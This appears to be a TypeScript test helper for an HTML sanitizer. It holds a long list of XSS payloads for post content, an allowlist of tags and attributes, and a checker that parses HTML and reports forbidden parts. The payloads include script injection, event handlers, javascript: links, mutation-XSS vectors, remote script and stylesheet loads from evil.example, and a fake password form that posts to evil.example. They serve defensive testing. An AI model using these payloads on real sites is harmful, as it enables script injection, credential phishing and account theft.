import type { Element, Nodes } from 'hast';
import rehypeParse from 'rehype-parse';
import rehypeStringify from 'rehype-stringify';
import { unified } from 'unified';

/** XSS payloads for the content of a post. The `marker` of a payload must not run in any browser. */
export const HOSTILE_HTML: readonly (readonly [what: string, payload: string])[] = [
  ['a script', '<script>marker()</script>'],
  ['a script in capitals', '<ScRiPt SRC=//evil.example/x.js></sCrIpT>'],
  ['a script with a slash', '<script/src=data:,marker()></script>'],
  ['a script inside a script', '<scr<script>ipt>marker()</scr</script>ipt>'],
  ['a script that is not closed', '<script>marker()'],
  ['a script after a NUL', '<scr\u0000ipt>marker()</scr\u0000ipt>'],
  ['a script in a comment that ends early', '<!--><script>marker()</script>-->'],
  ['a script in a conditional comment', '<!--[if gte IE 4]><script>marker()</script><![endif]-->'],
  ['a script in CDATA', '<![CDATA[<script>marker()</script>]]>'],
  ['a picture that fails', '<img src=x onerror=marker()>'],
  ['a picture that fails, without spaces', '<img/src="x"/onerror=marker()>'],
  ['a picture with quotes in a row', '<img """><script>marker()</script>">'],
  ['a picture of a javascript address', '<img src="javascript:marker()">'],
  ['a picture of a data address', '<img src="data:image/svg+xml,<svg onload=marker()>">'],
  ['a picture that loads', '<img src=https://gulnar.example/x.png onload=marker() style=x:y>'],
  ['a picture with many sources', '<img srcset="x 1x, javascript:marker() 2x" src=x>'],
  ['a picture element', '<picture><source srcset=x onerror=marker()><img src=x></picture>'],
  [
    'a lazy picture',
    '<img src=x loading=lazy onbeforescriptexecute=marker() longdesc="javascript:marker()">',
  ],
  ['an svg that loads', '<svg onload=marker()></svg>'],
  ['a script in an svg', '<svg><script>marker()</script></svg>'],
  ['a script in an svg with entities', '<svg><script>&#109;arker()</script></svg>'],
  [
    'an animated svg link',
    '<svg><a><animate attributeName=href values=javascript:marker() /><text>x</text></a></svg>',
  ],
  ['an svg that uses another', '<svg><use href="data:image/svg+xml;base64,PHN2Zz4#x"></use></svg>'],
  ['html inside an svg', '<svg><foreignObject><img src=x onerror=marker()></foreignObject></svg>'],
  ['a style inside an svg', '<svg><style><img src=x onerror=marker()></style></svg>'],
  ['math with a link', '<math><mtext><a href="javascript:marker()">x</a></mtext></math>'],
  [
    'math with an action',
    '<math><maction actiontype="statusline#x" xlink:href="javascript:marker()">x</maction></math>',
  ],
  [
    'math that mutates',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=marker()&gt;">',
  ],
  ['a form that mutates', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=marker()>'],
  ['an svg that mutates', '<svg></p><style><a id="</style><img src=1 onerror=marker()>">'],
  ['a noscript that mutates', '<noscript><p title="</noscript><img src=x onerror=marker()>">'],
  ['a title that mutates', '<title><img title="</title><img src=x onerror=marker()>"></title>'],
  ['a textarea that mutates', '<textarea><img title="</textarea><img src=x onerror=marker()>"></textarea>'],
  ['an xmp that mutates', '<xmp><p title="</xmp><img src=x onerror=marker()>"></xmp>'],
  [
    'a select that mutates',
    '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=marker()>"></a></template></select>',
  ],
  ['a template', '<template><script>marker()</script><img src=x onerror=marker()></template>'],
  ['plain text', '<plaintext><script>marker()</script>'],
  ['a style with an import', '<style>@import "//evil.example/x.css";</style>'],
  ['a style that breaks out', '<style></style><img src=x onerror=marker()></style>'],
  ['a style attribute', '<p style="background:url(javascript:marker())">x</p>'],
  ['a style attribute that covers the page', '<div style="position:fixed;inset:0" class="dialog">x</div>'],
  ['a linked style sheet', '<link rel=stylesheet href=//evil.example/x.css>'],
  ['an imported document', '<link rel=import href="data:text/html,<script>marker()</script>">'],
  ['a frame with a document', '<iframe srcdoc="<script>marker()</script>"></iframe>'],
  [
    'a frame with both',
    '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" srcdoc="<script>marker()</script>" onload=marker() name=x sandbox="allow-same-origin allow-scripts allow-top-navigation" allow="camera"></iframe>',
  ],
  ['a frame of a javascript address', '<iframe src="javascript:marker()"></iframe>'],
  ['a frame of a data address', '<iframe src="data:text/html,<script>marker()</script>"></iframe>'],
  ['a frame of another host', '<iframe src="https://evil.example/embed/dQw4w9WgXcQ"></iframe>'],
  [
    'a frame that only looks like a video',
    '<iframe src="https://www.youtube.com@evil.example/embed/dQw4w9WgXcQ"></iframe>',
  ],
  ['a frame with text', '<iframe src=x><img src=x onerror=marker()></iframe>'],
  ['a frame set', '<frameset><frame src="javascript:marker()"></frameset>'],
  ['an object', '<object data="javascript:marker()"><param name=x value=y></object>'],
  [
    'an object with a document',
    '<object data="data:text/html;base64,PHNjcmlwdD4=" type="text/html"></object>',
  ],
  ['an embed', '<embed src="javascript:marker()">'],
  ['an applet', '<applet code="x" archive="//evil.example/x.jar"></applet>'],
  ['a meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:marker()">'],
  ['a meta policy', '<meta http-equiv="Content-Security-Policy" content="img-src *">'],
  ['a base', '<base href="https://evil.example/">'],
  [
    'a form',
    '<form action="https://evil.example/"><input name=password type=password><button>Sign in</button></form>',
  ],
  ['a form with a javascript address', '<form action="javascript:marker()"><input type=submit></form>'],
  ['a button with an action', '<button formaction="javascript:marker()">x</button>'],
  ['an input that gets the focus', '<input autofocus onfocus=marker() type=image src="javascript:marker()">'],
  ['a field of choices', '<select onfocus=marker() autofocus><option>x</select>'],
  ['details that open', '<details open ontoggle=marker()><summary>x</summary></details>'],
  ['a marquee', '<marquee onstart=marker()>x</marquee>'],
  [
    'a video',
    '<video src=x onerror=marker() poster="javascript:marker()"><source src=x onerror=marker()></video>',
  ],
  ['a sound', '<audio src=x onerror=marker()></audio>'],
  ['a body', '<body onload=marker() background="javascript:marker()">x</body>'],
  ['an html element', '<html onmouseover=marker() xmlns="x" manifest="//evil.example/">x</html>'],
  [
    'a table with a background',
    '<table background="javascript:marker()"><tr><td background="javascript:marker()">x</table>',
  ],
  ['an element of its own name', '<x onclick=marker() is=y slot=z>x</x>'],
  ['a popover', '<div popover id=x onbeforetoggle=marker()>x</div><button popovertarget=x>y</button>'],
  ['keys and focus', '<p tabindex=1 accesskey=x contenteditable onfocus=marker()>x</p>'],
  ['a name of the page', '<a id="root" name="location">x</a><img name="body" id="cookie">'],
  ['a prototype', '<p __proto__="x" constructor="y" hasOwnProperty=z>x</p>'],
  ['a link of javascript', '<a href="javascript:marker()">x</a>'],
  ['a link of javascript in capitals', '<a href=" JaVaScRiPt:marker()">x</a>'],
  ['a link of javascript with a tab', '<a href="java&#9;script:marker()">x</a>'],
  ['a link of javascript with a line break', '<a href="java\nscript:marker()">x</a>'],
  ['a link of javascript with entities', '<a href="&#x6A;avascript&colon;marker&lpar;&rpar;">x</a>'],
  ['a link of javascript after a control letter', '<a href="\u0001javascript:marker()">x</a>'],
  [
    'a link of a script that looks like an address',
    '<a href="javascript://gulnar.example/%0Amarker()">x</a>',
  ],
  ['a link of vbscript', '<a href="vbscript:msgbox(1)">x</a>'],
  ['a link of data', '<a href="data:text/html,<script>marker()</script>">x</a>'],
  ['a link of a blob', '<a href="blob:https://gulnar.example/x">x</a>'],
  ['a link of a file', '<a href="file:///etc/passwd" ping="//evil.example/" download target=_blank>x</a>'],
  ['a quote with a source', '<blockquote cite="javascript:marker()">x</blockquote>'],
  ['a link of markdown', '[x](javascript:marker())'],
  ['a link of markdown with entities', '[x](&#x6A;avascript:marker())'],
  ['a link of markdown in angles', '[x](<javascript:marker()>)'],
  ['a link of markdown that breaks out', '[x](https://gulnar.example/"onmouseover="marker())'],
  ['a reference of markdown', '[x][y]\n\n[y]: javascript:marker() "onclick=marker()"'],
  ['an address of markdown', '<javascript:marker()>'],
  ['a picture of markdown', '![x](javascript:marker())'],
  ['a picture of markdown with data', '![x](data:image/svg+xml;base64,PHN2Zz4=)'],
  [
    'a picture of markdown that breaks out',
    '![x" onerror="marker()](https://gulnar.example/x.png"onload="marker())',
  ],
  ['html in a markdown list', '- one\n- <img src=x onerror=marker()>'],
  ['html in a markdown table', '| a |\n|---|\n| <script>marker()</script><img src=x onerror=marker()> |'],
  ['html in a markdown heading', '# <svg onload=marker()>x'],
  ['html in a footnote', 'x[^1]\n\n[^1]: <img src=x onerror=marker()> [y](javascript:marker())'],
  ['a footnote with a hostile name', 'x[^"onclick=marker()]\n\n[^"onclick=marker()]: y'],
  [
    'html in a code fence that ends',
    '```\n</code></pre><script>marker()</script>\n```\n<script>marker()</script>',
  ],
  ['code of a hostile language', '```js"onclick="marker()\nx\n```'],
  ['a tag that is never closed', '<img src=x onerror=marker() '],
  ['an attribute that is never closed', '<a href="javascript:marker()'],
];

const TAGS = new Set(
  `h2 h3 h4 h5 h6 p br hr blockquote pre div figure figcaption strong b em i u s del ins sub sup mark code kbd span
  ul ol li input dl dt dd section table caption thead tbody tfoot tr th td a img iframe`.split(/\s+/),
);
const ATTRIBUTES: Record<string, RegExp> = {
  id: /^post-/,
  dir: /^(?:ltr|rtl|auto)$/,
  lang: /^[a-z]{2,3}(?:-[a-z0-9]{2,8})*$/i,
  'a.href': /^(?:https?:\/\/|mailto:|tel:|#|\/(?!\/))/,
  'a.rel': /^noopener nofollow$/,
  'a.title': /^/,
  'a.ariaLabel': /^/,
  'a.ariaDescribedBy': /^post-footnote-label$/,
  'a.dataFootnoteRef': /^$/,
  'a.dataFootnoteBackref': /^$/,
  'a.className': /^data-footnote-backref$/,
  'img.src': /^(?:https:\/\/|\/media\/[0-9a-f]{20}\/\d+\.(?:avif|webp|jpg)$)/,
  'img.alt': /^/,
  'img.title': /^/,
  'img.loading': /^lazy$/,
  'img.width': /^\d+$/,
  'img.height': /^\d+$/,
  'iframe.src':
    /^https:\/\/(?:www\.youtube-nocookie\.com\/embed\/[\w-]{11}|player\.vimeo\.com\/video\/\d+(?:\?h=[0-9a-f]+)?)$/,
  'iframe.title': /^./,
  'iframe.loading': /^lazy$/,
  'iframe.allowFullScreen': /^true$/,
  'iframe.referrerPolicy': /^strict-origin-when-cross-origin$/,
  'h2.className': /^sr-only$/,
  'section.dataFootnotes': /^$/,
  'section.className': /^footnotes$/,
  'ul.className': /^contains-task-list$/,
  'ol.className': /^contains-task-list$/,
  'ol.start': /^\d+$/,
  'li.className': /^task-list-item$/,
  'input.type': /^checkbox$/,
  'input.disabled': /^true$/,
  'input.checked': /^true$/,
  'input.ariaLabel': /^(?:Done|To do)$/,
};
for (const cell of ['td', 'th']) {
  ATTRIBUTES[`${cell}.colSpan`] = /^\d+$/;
  ATTRIBUTES[`${cell}.rowSpan`] = /^\d+$/;
  ATTRIBUTES[`${cell}.dataAlign`] = /^(?:left|center|right)$/;
}

/** Parses HTML as a browser does and lists forbidden tags, attributes and addresses, independently of the shop's own lists. */
export function findForbiddenHtml(html: string): string[] {
  return forbiddenPartsOf(browser.parse(html));
}

/** HTML after a browser's parser and serializer. */
export function readAndWritten(html: string): string {
  return String(browser.processSync(html));
}

const browser = unified().use(rehypeParse, { fragment: true }).use(rehypeStringify);

function forbiddenPartsOf(node: Nodes): string[] {
  const own = node.type === 'element' ? forbiddenPartsOfElement(node) : [];
  if (node.type !== 'root' && node.type !== 'element' && node.type !== 'text') own.push(node.type);
  return [...own, ...('children' in node ? node.children.flatMap(forbiddenPartsOf) : [])];
}

function forbiddenPartsOfElement({ tagName, properties }: Element): string[] {
  if (!TAGS.has(tagName)) return [`<${tagName}>`];
  return Object.entries(properties).flatMap(([name, value]) => {
    const text = Array.isArray(value) ? value.join(' ') : String(value ?? '');
    const allowed = ATTRIBUTES[`${tagName}.${name}`] ?? ATTRIBUTES[name];
    return allowed?.test(text) ? [] : [`<${tagName} ${name}="${text}">`];
  });
}
